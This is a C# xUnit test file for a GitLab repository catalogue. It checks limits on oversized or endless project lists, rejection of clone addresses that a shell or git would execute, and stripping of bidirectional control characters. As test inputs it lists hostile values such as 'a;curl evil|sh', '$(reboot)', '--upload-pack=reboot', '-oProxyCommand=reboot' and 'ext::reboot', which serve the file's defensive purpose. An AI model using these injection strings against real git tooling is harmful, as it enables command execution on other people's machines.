using GitLabPortal.GitLab;
using GitLabPortal.Repositories;
using GitLabPortal.Tests.Harness;
using GitLabPortal.Tests.Sandbox;
using Microsoft.EntityFrameworkCore;
using Shouldly;
using Xunit;

namespace GitLabPortal.Tests.Repositories;

public sealed class HostileServerTests
{
    [Fact]
    public async Task A_page_of_many_thousands_is_not_even_built()
    {
        await using var stage = await CatalogueStage.StartAsync();
        var connection = await stage.ConnectAsync();
        stage.GitLab.Faults.Answer("/api/v4/projects", Fault.Custom(200, $"[{string.Join(',', Enumerable.Range(1, 5000).Select(i => $$"""{"id":{{i}}}"""))}]"));

        await stage.WalkAsync(connection);

        (await stage.SeenAsync(connection)).ShouldBeEmpty();
        (await stage.LastRunAsync(connection)).ProblemCode.ShouldBe("answer-wrong-shape");
    }

    [Fact]
    public async Task A_list_without_end_stops_at_the_limit_and_keeps_what_was_read()
    {
        await using var stage = await CatalogueStage.StartAsync(450);
        stage.MaxRepositories = 200;
        var connection = await stage.ConnectAsync();

        (await stage.WalkAsync(connection)).ShouldBe(0);

        var run = await stage.LastRunAsync(connection);
        (run.State, run.ProblemCode, run.Seen).ShouldBe((SyncState.Failed, "too-many-repositories", 200));
        run.ProblemText!.ShouldContain("Sync:MaxRepositories");
        (await stage.SeenAsync(connection)).Count.ShouldBe(200);
    }

    [Fact]
    public async Task Projects_that_are_others_each_time_do_not_fill_the_disk()
    {
        await using var stage = await CatalogueStage.StartAsync(150);
        stage.MaxRepositories = 100;
        await using (var db = stage.Database.CreateDbContext())
        {
            db.AddRange(Enumerable.Range(1_000_000, 200).Select(i => CatalogueMapping.New(Project(i), stage.Server.Id, stage.Clock.GetUtcNow())));
            await db.SaveChangesAsync(TestContext.Current.CancellationToken);
        }

        var connection = await stage.ConnectAsync();
        await stage.WalkAsync(connection);

        (await stage.LastRunAsync(connection)).ProblemCode.ShouldBe("too-many-repositories");
        await using var after = stage.Database.CreateDbContext();
        (await after.Set<Repository>().CountAsync(TestContext.Current.CancellationToken)).ShouldBe(200);
    }

    [Theory]
    [InlineData("https://git.example.com/a;curl evil|sh")]
    [InlineData("https://git.example.com/$(reboot).git")]
    [InlineData("https://git.example.com/`reboot`.git")]
    [InlineData("https://git.example.com/a&b.git")]
    [InlineData("javascript:alert(1)")]
    public void An_address_that_a_shell_would_run_is_not_offered_for_cloning(string address) =>
        Read(Project() with { HttpUrlToRepo = address }).HttpCloneUrl.ShouldBeNull();

    [Theory]
    [InlineData("--upload-pack=reboot")]
    [InlineData("-oProxyCommand=reboot")]
    [InlineData("ext::reboot")]
    [InlineData("git@git.example.com:a.git;reboot")]
    [InlineData("git@git.example.com:$HOME.git")]
    [InlineData("git@git.example.com:a b.git")]
    public void Nor_by_SSH(string address) => Read(Project() with { SshUrlToRepo = address }).SshCloneUrl.ShouldBeNull();

    [Theory]
    [InlineData("https://git.example.com:8443/gitlab/group/sub.group/pro-ject_1.git", "git@git.example.com:group/sub.group/pro-ject_1.git")]
    [InlineData("http://[fd00::7]:8080/group/project.git", "ssh://git@[fd00::7]:2222/group/project.git")]
    [InlineData("https://müller.example/group/project.git", "ssh://git@müller.example:2222/group/project.git")]
    public void Real_addresses_are(string http, string ssh)
    {
        var repository = Read(Project() with { HttpUrlToRepo = http, SshUrlToRepo = ssh });

        (repository.HttpCloneUrl, repository.SshCloneUrl).ShouldBe((http, ssh));
    }

    [Theory]
    [InlineData("\u202e")]
    [InlineData("\u2066")]
    [InlineData("\u2028")]
    public void A_name_cannot_turn_around_what_stands_beside_it(string mark)
    {
        var repository = Read(Project() with { Name = $"good{mark}live", PathWithNamespace = $"group{mark}/good{mark}live", Description = $"a{mark}b", Topics = [$"x{mark}y"] });

        string.Join('|', repository.Name, repository.FullPath, repository.NamespacePath, repository.Description, repository.Topics, repository.SearchText)
            .ShouldNotContain(mark, Case.Sensitive);
        repository.Name.ShouldBe("good live");
    }

    private static GitLabProject Project(long id = 7) => new() { Id = id, Name = "project", PathWithNamespace = "group/project" };

    private static Repository Read(GitLabProject project) => CatalogueMapping.New(project, Guid.NewGuid(), DateTimeOffset.UnixEpoch);
}
